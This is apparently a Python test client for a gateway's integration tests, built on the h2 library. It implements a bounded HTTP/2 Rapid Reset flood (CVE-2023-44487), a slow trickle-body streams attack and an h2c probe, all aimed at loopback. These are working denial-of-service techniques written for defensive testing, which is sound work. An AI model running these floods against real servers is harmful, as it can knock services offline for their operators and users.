#!/usr/bin/python3
"""HTTP/2 clients for the edge tests (tests/integration/edge.c), built on Debian's python3-h2.

Each mode connects to a gateway on loopback, does one bounded thing, and prints one JSON line
describing what happened; the C test asserts on it (and on what the gateway itself reports).

  rapid-reset   HEADERS + DATA(END_STREAM) + RST_STREAM per stream, as fast as the socket takes
                them (CVE-2023-44487), until the server closes the connection or all are sent
  slow-streams  opens streams that declare a body and then trickle it one byte at a time
  h2c           an HTTP/2 preface over plain TCP (prior knowledge), to see whether h2c is served

Only ever run against 127.0.0.1; every mode is bounded in count and time.
"""
import argparse
import json
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions


def tls_connect(args, alpn):
    ctx = ssl.create_default_context(cafile=args.ca)
    ctx.set_alpn_protocols(alpn)
    raw = socket.create_connection((args.host, args.port), timeout=10)
    sock = ctx.wrap_socket(raw, server_hostname=args.host)
    return sock, sock.selected_alpn_protocol()


def new_conn():
    cfg = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    conn = h2.connection.H2Connection(config=cfg)
    conn.initiate_connection()
    return conn


def headers(args, length):
    return [
        (":method", "POST"),
        (":path", args.path),
        (":scheme", "https"),
        (":authority", "%s:%d" % (args.host, args.port)),
        ("content-type", "application/json"),
        ("authorization", "Bearer " + args.key),
        ("content-length", str(length)),
    ]


def pump(sock, conn, result, deadline):
    """Reads what the server sent until nothing arrives for a moment; notes closes and GOAWAYs."""
    sock.settimeout(0.2)
    while time.monotonic() < deadline:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            return
        except (ConnectionError, ssl.SSLError, OSError):
            result["closed"] = True
            return
        if not data:
            result["closed"] = True
            return
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            result["protocol_error"] = True
            return
        for ev in events:
            if isinstance(ev, h2.events.ResponseReceived):
                result["responses"] += 1
            elif isinstance(ev, h2.events.ConnectionTerminated):
                result["goaway"] = True
            elif isinstance(ev, h2.events.StreamReset):
                result["server_resets"] += 1
        out = conn.data_to_send()
        if out:
            try:
                sock.sendall(out)
            except OSError:
                result["closed"] = True
                return


def rapid_reset(args):
    sock, proto = tls_connect(args, ["h2"])
    result = {"negotiated": proto, "sent": 0, "closed": False, "goaway": False, "responses": 0,
              "server_resets": 0, "seconds": 0.0}
    if proto != "h2":
        print(json.dumps(result))
        return
    conn = new_conn()
    sock.sendall(conn.data_to_send())
    start = time.monotonic()
    deadline = start + args.seconds
    sock.settimeout(5)
    i = 0
    while i < args.streams and not result["closed"] and time.monotonic() < deadline:
        for _ in range(min(100, args.streams - i)):
            sid = conn.get_next_available_stream_id()
            body = json.dumps({"event": "Rapid Reset", "messageId": "%s-%d" % (args.prefix, i)}).encode()
            conn.send_headers(sid, headers(args, len(body)))
            conn.send_data(sid, body, end_stream=True)
            conn.reset_stream(sid)
            i += 1
        try:
            sock.sendall(conn.data_to_send())
        except (OSError, ssl.SSLError):
            result["closed"] = True
            break
        result["sent"] = i
        pump(sock, conn, result, time.monotonic() + 0.001)
    result["sent"] = i
    if not result["closed"]:
        pump(sock, conn, result, time.monotonic() + 3)
        # Still open: does it still answer? A PING tells.
        if not result["closed"]:
            try:
                conn.ping(b"sluice!!")
                sock.sendall(conn.data_to_send())
                pump(sock, conn, result, time.monotonic() + 2)
            except OSError:
                result["closed"] = True
    result["seconds"] = round(time.monotonic() - start, 3)
    print(json.dumps(result))


def slow_streams(args):
    sock, proto = tls_connect(args, ["h2"])
    result = {"negotiated": proto, "streams": 0, "closed": False, "closed_after": None, "goaway": False,
              "responses": 0, "server_resets": 0}
    if proto != "h2":
        print(json.dumps(result))
        return
    conn = new_conn()
    sock.sendall(conn.data_to_send())
    pump(sock, conn, result, time.monotonic() + 0.3)
    sids = []
    for _ in range(args.streams):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, headers(args, args.body))
        sids.append(sid)
    sock.sendall(conn.data_to_send())
    result["streams"] = len(sids)
    start = time.monotonic()
    while time.monotonic() - start < args.seconds and not result["closed"]:
        for sid in sids:
            try:
                conn.send_data(sid, b" ")
            except h2.exceptions.H2Error:
                pass
        try:
            sock.sendall(conn.data_to_send())
        except (OSError, ssl.SSLError):
            result["closed"] = True
            break
        pump(sock, conn, result, time.monotonic() + args.interval)
    if result["closed"]:
        result["closed_after"] = round(time.monotonic() - start, 3)
    print(json.dumps(result))


def h2c(args):
    result = {"h2": False, "closed": False, "reply": ""}
    sock = socket.create_connection((args.host, args.port), timeout=5)
    conn = new_conn()
    sock.sendall(conn.data_to_send())
    try:
        data = sock.recv(4096)
    except OSError:
        data = b""
    result["closed"] = not data
    try:
        events = conn.receive_data(data) if data else []
        result["h2"] = any(isinstance(e, h2.events.RemoteSettingsChanged) for e in events)
    except h2.exceptions.ProtocolError:
        result["h2"] = False
    result["reply"] = data[:12].decode("latin-1")
    print(json.dumps(result))


def main():
    p = argparse.ArgumentParser()
    p.add_argument("mode", choices=["rapid-reset", "slow-streams", "h2c"])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--ca")
    p.add_argument("--key", default="")
    p.add_argument("--path", default="/v1/t")
    p.add_argument("--prefix", default="rr")
    p.add_argument("--streams", type=int, default=1000)
    p.add_argument("--seconds", type=float, default=20)
    p.add_argument("--body", type=int, default=500000)
    p.add_argument("--interval", type=float, default=0.5)
    args = p.parse_args()
    {"rapid-reset": rapid_reset, "slow-streams": slow_streams, "h2c": h2c}[args.mode](args)


if __name__ == "__main__":
    sys.exit(main())
